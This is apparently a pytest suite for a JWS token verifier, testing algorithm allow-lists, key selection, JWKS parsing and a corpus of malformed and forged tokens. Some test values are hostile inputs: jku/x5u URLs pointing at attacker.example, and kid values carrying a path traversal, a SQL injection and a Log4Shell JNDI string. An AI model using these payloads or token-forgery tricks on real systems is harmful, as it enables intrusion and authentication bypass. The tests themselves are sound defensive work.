"""The signature layer: algorithms, key selection and a corpus of hostile tokens."""

from __future__ import annotations

import base64
import json
import socket
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from tokens_testkit import (
    b64u,
    b64u_json,
    ec_key,
    ed_key,
    jwks,
    make_jws,
    pem_public_key,
    public_jwk,
    rsa_key,
    self_signed_der,
    sign,
    x5t_of,
)

from superoffice_app.tokens import (
    MAX_TOKEN_LENGTH,
    AmbiguousKeyError,
    InvalidSignatureError,
    KeyNotFoundError,
    KeySet,
    KeySetError,
    MalformedTokenError,
    TokenError,
    UnsupportedAlgorithmError,
    UnusableKeyError,
    verify_jws,
    verify_with_keyset,
)
from superoffice_app.tokens import jws as jws_module

PAYLOAD = {"iss": "joe", "exp": 1300819380}
PAYLOAD_BYTES = b'{"iss":"joe","exp":1300819380}'
ALL_ALGORITHMS = [
    "RS256",
    "RS384",
    "RS512",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES384",
    "ES512",
    "EdDSA",
]


def our_jwks() -> dict[str, Any]:
    return jwks(public_jwk(rsa_key("ours"), kid="ours"))


def signed(header: dict[str, Any] | None = None, payload: Any = PAYLOAD, key: Any = None) -> str:
    header = {"alg": "RS256", "kid": "ours"} if header is None else header
    return make_jws(header, payload, rsa_key("ours") if key is None else key)


# --- algorithms -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("alg", "key"),
    [
        ("RS256", lambda: rsa_key("ours")),
        ("RS384", lambda: rsa_key("ours")),
        ("RS512", lambda: rsa_key("ours")),
        ("PS256", lambda: rsa_key("ours")),
        ("PS384", lambda: rsa_key("ours")),
        ("PS512", lambda: rsa_key("ours")),
        ("ES256", lambda: ec_key("ours", "P-256")),
        ("ES384", lambda: ec_key("ours", "P-384")),
        ("ES512", lambda: ec_key("ours", "P-521")),
        ("EdDSA", lambda: ed_key("ours", "Ed25519")),
        ("EdDSA", lambda: ed_key("ours", "Ed448")),
    ],
)
def test_each_supported_algorithm_verifies(alg: str, key: Any) -> None:
    private = key()
    token = make_jws({"alg": alg, "kid": "k"}, PAYLOAD, private)
    assert verify_jws(token, jwks(public_jwk(private, kid="k")), [alg]) == PAYLOAD_BYTES


def test_rsa_signature_only_verifies_under_its_own_padding() -> None:
    key = rsa_key("ours")
    header = b64u_json({"alg": "PS256", "kid": "ours"})
    body = b64u(PAYLOAD_BYTES)
    pkcs1 = key.sign(f"{header}.{body}".encode(), padding.PKCS1v15(), hashes.SHA256())
    with pytest.raises(InvalidSignatureError):
        verify_jws(f"{header}.{body}.{b64u(pkcs1)}", our_jwks(), ["PS256"])


def test_pss_salt_must_be_as_long_as_the_hash() -> None:
    key = rsa_key("ours")
    header = b64u_json({"alg": "PS256", "kid": "ours"})
    body = b64u(PAYLOAD_BYTES)
    pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=padding.PSS.MAX_LENGTH)
    signature = key.sign(f"{header}.{body}".encode(), pss, hashes.SHA256())
    with pytest.raises(InvalidSignatureError):
        verify_jws(f"{header}.{body}.{b64u(signature)}", our_jwks(), ["PS256"])


def test_algorithm_must_be_one_the_caller_allows() -> None:
    with pytest.raises(UnsupportedAlgorithmError):
        verify_jws(signed(), our_jwks(), ["PS256", "ES256"])
    with pytest.raises(UnsupportedAlgorithmError):
        verify_jws(signed(), our_jwks(), [])


def test_a_single_algorithm_may_be_given_as_a_string() -> None:
    assert verify_jws(signed(), our_jwks(), "RS256") == PAYLOAD_BYTES


def test_verify_with_keyset_returns_the_header_too() -> None:
    keys = KeySet.from_jwks(our_jwks())
    header, payload = verify_with_keyset(signed(), keys, ["RS256"])
    assert header == {"alg": "RS256", "kid": "ours"}
    assert payload == PAYLOAD_BYTES
    assert verify_jws(signed(), keys, ["RS256"]) == PAYLOAD_BYTES


@pytest.mark.parametrize("name", ["none", "None", "NONE", "nOnE"])
def test_alg_none_is_refused_even_when_listed(name: str) -> None:
    header = b64u_json({"alg": name})
    body = b64u(PAYLOAD_BYTES)
    with pytest.raises(TokenError):  # no signature at all
        verify_jws(f"{header}.{body}.", our_jwks(), [name, "RS256"])
    with pytest.raises(UnsupportedAlgorithmError):  # a signature that means nothing
        verify_jws(f"{header}.{body}.{b64u(b'x' * 32)}", our_jwks(), [name, "RS256"])


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_hmac_signed_with_the_public_key_is_refused(alg: str) -> None:
    # The classic confusion: the public key (as PEM or as JWK JSON) used as HMAC secret.
    jwk_text = json.dumps(our_jwks()["keys"][0]).encode()
    for secret in (pem_public_key(rsa_key("ours")), jwk_text):
        token = make_jws({"alg": alg, "kid": "ours"}, PAYLOAD, secret)
        with pytest.raises(UnsupportedAlgorithmError):
            verify_jws(token, our_jwks(), [alg, "RS256"])


# --- keys in the header are never used --------------------------------------------------


def attacker_jwk() -> dict[str, Any]:
    return public_jwk(rsa_key("attacker"), kid="attacker")


@pytest.mark.parametrize(
    "extra",
    [
        {"jwk": "attacker"},
        {"jku": "https://attacker.example/jwks.json"},
        {"x5u": "https://attacker.example/cert.pem"},
        {"x5c": "attacker"},
    ],
)
def test_keys_carried_in_the_header_are_ignored(
    extra: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the verifier must never fetch")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    value = extra[next(iter(extra))]
    if value == "attacker":
        name = next(iter(extra))
        value = (
            attacker_jwk()
            if name == "jwk"
            else [base64.b64encode(self_signed_der("attacker")).decode()]
        )
    attacker = rsa_key("attacker")
    # Without a kid: our only key is tried (and fails); the header's key is not.
    token = make_jws({"alg": "RS256", **{next(iter(extra)): value}}, PAYLOAD, attacker)
    with pytest.raises(InvalidSignatureError):
        verify_jws(token, our_jwks(), ["RS256"])
    # With the attacker's kid: no key of ours has it.
    token = make_jws(
        {"alg": "RS256", "kid": "attacker", **{next(iter(extra)): value}}, PAYLOAD, attacker
    )
    with pytest.raises(KeyNotFoundError):
        verify_jws(token, our_jwks(), ["RS256"])


def test_x5t_of_a_certificate_carried_in_the_header_does_not_select_it() -> None:
    der = self_signed_der("attacker")
    header = {
        "alg": "RS256",
        "x5t": x5t_of(der),
        "x5c": [base64.b64encode(der).decode()],
    }
    token = make_jws(header, PAYLOAD, rsa_key("attacker"))
    with pytest.raises(KeyNotFoundError):
        verify_jws(token, our_jwks(), ["RS256"])


@pytest.mark.parametrize(
    "kid",
    [
        "../../etc/passwd",
        "' OR 1=1 --",
        "ours\x00",
        "\x00",
        "ours ",
        "OURS",
        "x" * 10_000,
        "${jndi:ldap://attacker.example/a}",
    ],
)
def test_injected_kids_find_no_key(kid: str) -> None:
    token = make_jws({"alg": "RS256", "kid": kid}, PAYLOAD, rsa_key("ours"))
    with pytest.raises(KeyNotFoundError):
        verify_jws(token, our_jwks(), ["RS256"])


@pytest.mark.parametrize("kid", [1, None, ["ours"], {"kid": "ours"}, True])
def test_kid_and_x5t_must_be_strings(kid: object) -> None:
    for name in ("kid", "x5t"):
        token = make_jws({"alg": "RS256", name: kid}, PAYLOAD, rsa_key("ours"))
        with pytest.raises(MalformedTokenError):
            verify_jws(token, our_jwks(), ["RS256"])


# --- signatures ---------------------------------------------------------------------------


def test_payload_tampered_after_signing_is_refused() -> None:
    header, _, signature = signed().split(".")
    tampered = b64u(b'{"iss":"joe","exp":9999999999}')
    with pytest.raises(InvalidSignatureError):
        verify_jws(f"{header}.{tampered}.{signature}", our_jwks(), ["RS256"])


def test_header_tampered_after_signing_is_refused() -> None:
    _, body, signature = signed().split(".")
    header = b64u_json({"kid": "ours", "alg": "RS256"})  # same members, other bytes
    with pytest.raises(InvalidSignatureError):
        verify_jws(f"{header}.{body}.{signature}", our_jwks(), ["RS256"])


def test_signed_by_another_key_with_our_kid_is_refused() -> None:
    token = make_jws({"alg": "RS256", "kid": "ours"}, PAYLOAD, rsa_key("attacker"))
    with pytest.raises(InvalidSignatureError):
        verify_jws(token, our_jwks(), ["RS256"])


def test_rsa_signature_of_the_wrong_length_is_refused() -> None:
    header, body, signature = signed().split(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    for bad in (b"\x00" + raw, raw[1:], raw[:-1]):
        with pytest.raises(InvalidSignatureError):
            verify_jws(f"{header}.{body}.{b64u(bad)}", our_jwks(), ["RS256"])


@pytest.mark.parametrize(
    ("alg", "crv"), [("ES256", "P-256"), ("ES384", "P-384"), ("ES512", "P-521")]
)
def test_ecdsa_signature_must_be_raw_r_s_of_exact_length(alg: str, crv: str) -> None:
    key = ec_key("ours", crv)
    keys = jwks(public_jwk(key, kid="ec"))
    header = b64u_json({"alg": alg, "kid": "ec"})
    body = b64u(PAYLOAD_BYTES)
    data = f"{header}.{body}".encode()
    raw = sign(alg, key, data)
    assert verify_jws(f"{header}.{body}.{b64u(raw)}", keys, [alg]) == PAYLOAD_BYTES
    half = len(raw) // 2
    der = key.sign(
        data,
        ec.ECDSA({"ES256": hashes.SHA256(), "ES384": hashes.SHA384()}.get(alg, hashes.SHA512())),
    )
    variants = [
        der,  # DER instead of R||S
        raw[:-1],  # one byte short
        raw + b"\x00",  # one byte long
        b"\x00" + raw[:half] + b"\x00" + raw[half:],  # each half zero-padded
        raw[half:] + raw[:half],  # S||R
        b"\x00" * len(raw),  # r = s = 0
    ]
    for bad in variants:
        with pytest.raises(InvalidSignatureError):
            verify_jws(f"{header}.{body}.{b64u(bad)}", keys, [alg])


def test_eddsa_signature_of_wrong_length_is_refused() -> None:
    key = ed_key("ours", "Ed25519")
    header = b64u_json({"alg": "EdDSA"})
    body = b64u(PAYLOAD_BYTES)
    raw = sign("EdDSA", key, f"{header}.{body}".encode())
    for bad in (raw[:-1], raw + b"\x00"):
        with pytest.raises(InvalidSignatureError):
            verify_jws(f"{header}.{body}.{b64u(bad)}", jwks(public_jwk(key)), ["EdDSA"])


# --- key selection -------------------------------------------------------------------------


def test_kid_selects_the_key() -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="a"), public_jwk(rsa_key("b"), kid="b"))
    assert verify_jws(make_jws({"alg": "RS256", "kid": "b"}, PAYLOAD, rsa_key("b")), keys, "RS256")
    with pytest.raises(InvalidSignatureError):
        verify_jws(make_jws({"alg": "RS256", "kid": "a"}, PAYLOAD, rsa_key("b")), keys, "RS256")


def test_kid_takes_precedence_over_x5t() -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="a", x5t="thumb-a"))
    token = make_jws({"alg": "RS256", "kid": "zzz", "x5t": "thumb-a"}, PAYLOAD, rsa_key("a"))
    with pytest.raises(KeyNotFoundError):
        verify_jws(token, keys, "RS256")


def test_stored_x5t_selects_the_key() -> None:
    keys = jwks(
        public_jwk(rsa_key("a"), x5t="thumb-a"),
        public_jwk(rsa_key("b"), x5t="thumb-b"),
    )
    token = make_jws({"alg": "RS256", "x5t": "thumb-b"}, PAYLOAD, rsa_key("b"))
    assert verify_jws(token, keys, "RS256") == PAYLOAD_BYTES
    with pytest.raises(KeyNotFoundError):
        verify_jws(make_jws({"alg": "RS256", "x5t": "nope"}, PAYLOAD, rsa_key("b")), keys, "RS256")


def test_x5t_computed_from_the_jwks_x5c_selects_the_key() -> None:
    der_a, der_b = self_signed_der("a"), self_signed_der("b")
    keys = jwks(
        public_jwk(rsa_key("a"), x5c=[base64.b64encode(der_a).decode()]),
        public_jwk(rsa_key("b"), x5c=[base64.b64encode(der_b).decode()]),
    )
    token = make_jws({"alg": "RS256", "x5t": x5t_of(der_b)}, PAYLOAD, rsa_key("b"))
    assert verify_jws(token, keys, "RS256") == PAYLOAD_BYTES
    token = make_jws({"alg": "RS256", "x5t": x5t_of(der_a)}, PAYLOAD, rsa_key("b"))
    with pytest.raises(InvalidSignatureError):
        verify_jws(token, keys, "RS256")


def test_without_kid_or_x5t_the_single_usable_key_is_used() -> None:
    keys = jwks(public_jwk(rsa_key("a")), public_jwk(ec_key("a", "P-256")))
    assert verify_jws(make_jws({"alg": "RS256"}, PAYLOAD, rsa_key("a")), keys, "RS256")
    assert verify_jws(make_jws({"alg": "ES256"}, PAYLOAD, ec_key("a")), keys, "ES256")


def test_without_kid_or_x5t_several_usable_keys_are_ambiguous() -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="a"), public_jwk(rsa_key("b"), kid="b"))
    with pytest.raises(AmbiguousKeyError):
        verify_jws(make_jws({"alg": "RS256"}, PAYLOAD, rsa_key("a")), keys, "RS256")


def test_without_kid_or_x5t_and_no_fitting_key_nothing_is_found() -> None:
    keys = jwks(public_jwk(ec_key("a", "P-256")))
    with pytest.raises(KeyNotFoundError):
        verify_jws(make_jws({"alg": "RS256"}, PAYLOAD, rsa_key("a")), keys, "RS256")


def test_two_different_keys_with_one_kid_are_ambiguous() -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="k"), public_jwk(rsa_key("b"), kid="k"))
    with pytest.raises(AmbiguousKeyError):
        verify_jws(make_jws({"alg": "RS256", "kid": "k"}, PAYLOAD, rsa_key("a")), keys, "RS256")


def test_the_same_key_listed_twice_is_not_ambiguous() -> None:
    keys = jwks(
        public_jwk(rsa_key("a"), kid="k"),
        public_jwk(rsa_key("a"), kid="k", alg="RS256", use="sig"),
    )
    token = make_jws({"alg": "RS256", "kid": "k"}, PAYLOAD, rsa_key("a"))
    assert verify_jws(token, keys, "RS256") == PAYLOAD_BYTES


@pytest.mark.parametrize(
    "members",
    [
        {"use": "enc"},
        {"key_ops": ["sign"]},
        {"key_ops": ["encrypt", "wrapKey"]},
        {"key_ops": []},
        {"alg": "RS512"},
        {"alg": "PS256"},
    ],
)
def test_matched_key_with_other_use_ops_or_alg_is_unusable(members: dict[str, Any]) -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="k", **members))
    token = make_jws({"alg": "RS256", "kid": "k"}, PAYLOAD, rsa_key("a"))
    with pytest.raises(UnusableKeyError):
        verify_jws(token, keys, "RS256")


@pytest.mark.parametrize(
    "members",
    [{"use": "sig"}, {"key_ops": ["verify"]}, {"key_ops": ["sign", "verify"]}, {"alg": "RS256"}],
)
def test_matched_key_with_fitting_use_ops_and_alg_is_used(members: dict[str, Any]) -> None:
    keys = jwks(public_jwk(rsa_key("a"), kid="k", **members))
    token = make_jws({"alg": "RS256", "kid": "k"}, PAYLOAD, rsa_key("a"))
    assert verify_jws(token, keys, "RS256") == PAYLOAD_BYTES


def test_rsa_keys_below_2048_bits_are_refused() -> None:
    small = rsa_key("small", 1024)
    token = make_jws({"alg": "RS256", "kid": "small"}, PAYLOAD, small)
    with pytest.raises(UnusableKeyError):
        verify_jws(token, jwks(public_jwk(small, kid="small")), "RS256")
    with pytest.raises(KeyNotFoundError):  # and it is no fallback key either
        verify_jws(make_jws({"alg": "RS256"}, PAYLOAD, small), jwks(public_jwk(small)), "RS256")


@pytest.mark.parametrize(
    ("alg", "crv"), [("ES256", "P-384"), ("ES384", "P-256"), ("ES512", "P-384"), ("ES256", "P-521")]
)
def test_ec_key_must_be_on_the_algorithms_curve(alg: str, crv: str) -> None:
    key = ec_key("curve", crv)
    token = make_jws({"alg": alg, "kid": "ec"}, PAYLOAD, key, alg="ES" + alg[2:])
    with pytest.raises(TokenError):
        verify_jws(token, jwks(public_jwk(key, kid="ec")), [alg])
    with pytest.raises(UnusableKeyError):
        verify_jws(token, jwks(public_jwk(key, kid="ec")), [alg])


def test_key_type_must_fit_the_algorithm() -> None:
    # An EC key named by kid cannot verify RS256, an RSA key cannot verify ES256.
    rsa_token = make_jws({"alg": "RS256", "kid": "k"}, PAYLOAD, rsa_key("a"))
    with pytest.raises(UnusableKeyError):
        verify_jws(rsa_token, jwks(public_jwk(ec_key("a"), kid="k")), "RS256")
    ec_token = make_jws({"alg": "ES256", "kid": "k"}, PAYLOAD, ec_key("a"))
    with pytest.raises(UnusableKeyError):
        verify_jws(ec_token, jwks(public_jwk(rsa_key("a"), kid="k")), "ES256")
    ed_token = make_jws({"alg": "EdDSA", "kid": "k"}, PAYLOAD, ed_key("a"))
    with pytest.raises(UnusableKeyError):
        verify_jws(ed_token, jwks(public_jwk(ec_key("a"), kid="k")), "EdDSA")


# --- JWKS documents ----------------------------------------------------------------------


def test_malformed_jwks_entries_are_skipped() -> None:
    good = public_jwk(rsa_key("ours"), kid="ours")
    ec_good = public_jwk(ec_key("ours"), kid="off-curve")
    off_curve = {**ec_good, "y": ec_good["x"]}  # not a point on P-256
    entries: list[Any] = [
        "not an object",
        5,
        None,
        [],
        {},
        {"kty": "RSA"},
        {"kty": "RSA", "kid": "ours", "n": "!!", "e": "AQAB"},
        {"kty": "RSA", "kid": "ours", "n": good["n"], "e": "AA"},  # e = 0
        {"kty": "RSA", "kid": "ours", "n": good["n"], "e": "Ag"},  # e = 2
        {"kty": "RSA", "kid": 7, "n": good["n"], "e": "AQAB"},
        {**good, "key_ops": "verify"},
        {**good, "use": 1},
        {**good, "x5c": ["not base64!"]},
        {**good, "x5c": []},
        {"kty": "EC", "crv": "P-256", "kid": "ours", "x": "AAAA", "y": "AAAA"},
        {"kty": "EC", "crv": "secp256k1", "kid": "ours", "x": good["n"], "y": good["n"]},
        off_curve,
        {"kty": "OKP", "crv": "X25519", "kid": "ours", "x": b64u(b"\x01" * 32)},
        {"kty": "OKP", "crv": "Ed25519", "kid": "ours", "x": b64u(b"\x01" * 31)},
        {"kty": "oct", "kid": "ours", "k": b64u(b"secret")},
        {"kty": "RSA", "kid": "ours", "n": b64u(b"\xff" * 4096), "e": "AQAB"},  # 32768 bits
        {"kty": {"nested": [1, 2, {"deep": None}]}},
        {1: "non-string member name", "kty": "RSA"},
        {"kty": "RSA", "kid": "ours", "n": good["n"], "e": "AQAB", "x": float("nan")},
        good,
    ]
    token = signed()
    assert verify_jws(token, {"keys": entries}, ["RS256"]) == PAYLOAD_BYTES
    keys = KeySet.from_jwks({"keys": entries})
    assert len(keys) == 1
    off_curve_token = make_jws({"alg": "ES256", "kid": "off-curve"}, PAYLOAD, ec_key("ours"))
    with pytest.raises(KeyNotFoundError):
        verify_jws(off_curve_token, {"keys": entries}, ["ES256"])


@pytest.mark.parametrize(
    "document",
    [None, "keys", [], 5, {}, {"keys": None}, {"keys": {}}, {"keys": "x"}, {"Keys": []}],
)
def test_a_document_that_is_not_a_jwks_is_a_token_error(document: Any) -> None:
    with pytest.raises(KeySetError):
        verify_jws(signed(), document, ["RS256"])
    with pytest.raises(KeySetError):
        KeySet.from_jwks(document)


def test_jwks_dicts_are_parsed_once_per_key_material(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[object] = []
    real = jws_module.parse_jwk

    def counting(entry: object) -> object:
        calls.append(entry)
        return real(entry)

    monkeypatch.setattr(jws_module, "parse_jwk", counting)
    key = rsa_key("cache")
    token = make_jws({"alg": "RS256", "kid": "cache"}, PAYLOAD, key)
    for _ in range(5):  # a fresh, equal dict every time
        assert verify_jws(token, jwks(public_jwk(key, kid="cache")), ["RS256"])
    assert len(calls) == 1


# --- the hostile corpus: malformed tokens -------------------------------------------------


def _noncanonical(segment: str) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    spare_bits = {2: 0b1111, 3: 0b11}[len(segment) % 4]
    index = alphabet.index(segment[-1])
    assert index & spare_bits == 0
    return segment[:-1] + alphabet[index | 1]


BAD_HEADERS: list[bytes] = [
    b"not json",
    b'["alg", "RS256"]',  # an array
    b'"RS256"',
    b"null",
    b"{}",  # no alg
    b"\xff\xfe{}",  # not UTF-8
    b'\xef\xbb\xbf{"alg":"RS256"}',  # a byte order mark
    b'{"alg":"RS256"} trailing',
    b'{"alg":"RS256","n":NaN}',
    b'{"alg":"RS256","n":Infinity}',
    b'{"alg":"RS256","n":-Infinity}',
    b'{"alg":"RS256","n":1e999}',
    b'{"alg":"RS256","n":' + b"9" * 5000 + b"}",
    b"[" * 6000 + b"]" * 6000,  # nested too deep
    b'{"a":' * 2000 + b"1" + b"}" * 2000,
    b'{"alg":1}',
    b'{"alg":["RS256"]}',
    b'{"alg":"RS256","kid":"ours","kid":"ours"}',  # duplicate member
    b'{"alg":"RS256"\x00}',
    b'{"alg":"RS\x01256"}',  # raw control character in a string
    b"{'alg':'RS256'}",
]


def hostile_tokens() -> list[Any]:
    token = signed()
    header, body, signature = token.split(".")
    alg_none = b64u_json({"alg": "none"})
    return [
        "",
        ".",
        "..",
        "...",
        f"{header}.{body}",  # 2 segments
        f"{header}.{body}.{signature}.{signature}",  # 4 segments
        f"{header}.{body}.",  # empty signature
        f".{body}.{signature}",  # empty header
        f"{alg_none}.{body}.",
        f"{header}=.{body}.{signature}",  # padding
        f"{header}.{body}.{signature}==",
        f"{header}.{body}.{signature[:-2]}+{signature[-1]}",  # '+' of standard base64
        f"{header}.{body}.{signature[:-2]}/{signature[-1]}",  # '/'
        f"{header}.{body}.{signature[:10]} {signature[10:]}",  # whitespace
        f"{header}.{body}.{signature[:10]}\n{signature[10:]}",
        f"{header}.{body}.{signature}\n",
        f" {token}",
        f"{header}.{body}.{signature}\t",
        f"{header}.{body}.{_noncanonical(signature)}",  # non-canonical last character
        f"{header}.{body}.{signature}A",  # length 1 mod 4
        f"{header}.{body}.{signature[:-1]}é",  # non-ASCII
        f"{header}\u2024{body}\u2024{signature}",  # one-dot leader instead of '.'
        token.replace("e", "\uff45"),  # full-width letters
        *(f"{b64u(raw)}.{body}.{signature}" for raw in BAD_HEADERS),
        token + "." + "A" * MAX_TOKEN_LENGTH,
        "A" * (MAX_TOKEN_LENGTH + 1),
        "." * 10_000,
        "\x00" * 100,
        "\ud800.\udfff.x",  # lone surrogates
        None,
        token.encode(),
        bytearray(token.encode()),
        12345,
        1.5,
        ["a", "b", "c"],
        {"token": token},
        object(),
    ]


def test_the_hostile_corpus_is_refused_with_token_errors_only() -> None:
    for token in hostile_tokens():
        with pytest.raises(TokenError):
            verify_jws(token, our_jwks(), ["RS256"])
        with pytest.raises(TokenError):
            verify_with_keyset(token, KeySet.from_jwks(our_jwks()), ["RS256"])


def test_non_string_tokens_are_malformed() -> None:
    for token in (None, b"a.b.c", 1, ["a"]):
        with pytest.raises(MalformedTokenError):
            verify_jws(token, our_jwks(), ["RS256"])


def test_duplicate_header_members_are_refused() -> None:
    header = '{"alg":"RS256","kid":"ours","kid":"other"}'
    with pytest.raises(MalformedTokenError):
        verify_jws(make_jws(header, PAYLOAD, rsa_key("ours"), "RS256"), our_jwks(), ["RS256"])
    header = '{"alg":"none","alg":"RS256","kid":"ours"}'
    with pytest.raises(MalformedTokenError):
        verify_jws(make_jws(header, PAYLOAD, rsa_key("ours"), "RS256"), our_jwks(), ["RS256"])


@pytest.mark.parametrize("crit", [["exp"], ["b64"], ["unknown-extension"], [], "exp", None])
def test_critical_header_extensions_are_refused(crit: Any) -> None:
    token = signed({"alg": "RS256", "kid": "ours", "crit": crit, "exp": 1})
    with pytest.raises(MalformedTokenError):
        verify_jws(token, our_jwks(), ["RS256"])


@pytest.mark.parametrize("b64", [False, 0, "false", None])
def test_unencoded_payload_option_is_refused(b64: Any) -> None:
    with pytest.raises(MalformedTokenError):
        verify_jws(signed({"alg": "RS256", "kid": "ours", "b64": b64}), our_jwks(), ["RS256"])


def test_token_length_limit_is_exact() -> None:
    key = rsa_key("ours")
    header = {"alg": "RS256", "kid": "ours"}
    signature_length = 342  # 256 bytes, base64url
    for pad in range(0, 8):
        head = b64u_json({**header, "p": "x" * pad})
        room = MAX_TOKEN_LENGTH - len(head) - signature_length - 2
        if room % 4 == 0:
            break
    payload = b"x" * (room // 4 * 3)
    at_limit = make_jws({**header, "p": "x" * pad}, payload, key)
    assert len(at_limit) == MAX_TOKEN_LENGTH
    assert verify_jws(at_limit, our_jwks(), ["RS256"]) == payload
    over = make_jws({**header, "p": "x" * pad}, payload + b"xyz", key)
    assert len(over) > MAX_TOKEN_LENGTH
    with pytest.raises(MalformedTokenError):
        verify_jws(over, our_jwks(), ["RS256"])


def test_a_str_subclass_cannot_change_how_the_token_is_read() -> None:
    class Sneaky(str):
        __slots__ = ()

        def split(self, *args: Any, **kwargs: Any) -> list[str]:  # type: ignore[override]
            return ["x", "y", "z"]

        def isascii(self) -> bool:
            return True

    assert verify_jws(Sneaky(signed()), our_jwks(), ["RS256"]) == PAYLOAD_BYTES
    with pytest.raises(MalformedTokenError):
        verify_jws(Sneaky("é.é.é"), our_jwks(), ["RS256"])


def test_bad_headers_are_malformed_even_when_signed() -> None:
    # Signed over exactly these bytes: only the strict header rules can refuse them.
    for raw in BAD_HEADERS:
        token = make_jws(raw, PAYLOAD, rsa_key("ours"), alg="RS256")
        with pytest.raises(MalformedTokenError):
            verify_jws(token, our_jwks(), ["RS256"])


def test_segment_count_and_empty_signature_are_malformed() -> None:
    header, body, signature = signed().split(".")
    for token in (f"{header}.{body}", f"{header}.{body}.{signature}.", f"{header}.{body}.", ""):
        with pytest.raises(MalformedTokenError):
            verify_jws(token, our_jwks(), ["RS256"])


@pytest.mark.parametrize(
    "variant",
    [
        lambda body: body + "=" * (-len(body) % 4),  # padding
        lambda body: body.replace("-", "+").replace("_", "/"),  # standard alphabet
        lambda body: body[:4] + " " + body[4:],  # whitespace
        lambda body: body[:4] + "\n" + body[4:],
        lambda body: body[:4] + "\r\n" + body[4:],
        _noncanonical,  # non-zero unused bits
    ],
)
def test_non_canonical_base64url_is_refused_even_when_signed(variant: Any) -> None:
    # A payload whose base64url has '-', '_' and spare bits in its last character.
    body = b64u(b'{"p":"\xfb\xff\xfe\xfb\xef"}')
    assert "-" in body
    assert "_" in body
    assert len(body) % 4 in (2, 3)
    header = b64u_json({"alg": "RS256", "kid": "ours"})
    odd = variant(body)
    assert odd != body
    signature = b64u(sign("RS256", rsa_key("ours"), f"{header}.{odd}".encode()))
    with pytest.raises(MalformedTokenError):
        verify_jws(f"{header}.{odd}.{signature}", our_jwks(), ["RS256"])
    # ...while the canonical spelling, signed the same way, verifies.
    signature = b64u(sign("RS256", rsa_key("ours"), f"{header}.{body}".encode()))
    assert verify_jws(f"{header}.{body}.{signature}", our_jwks(), ["RS256"])


@pytest.mark.parametrize("char", ["é", "\u2024", "\uff41", "\u0660", "\U0001f600"])
def test_non_ascii_is_refused_before_any_decoding(char: str) -> None:
    header, body, signature = signed().split(".")
    for token in (f"{char}{header}.{body}.{signature}", f"{header}.{body}.{signature}{char}"):
        with pytest.raises(MalformedTokenError, match="ASCII"):
            verify_jws(token, our_jwks(), ["RS256"])
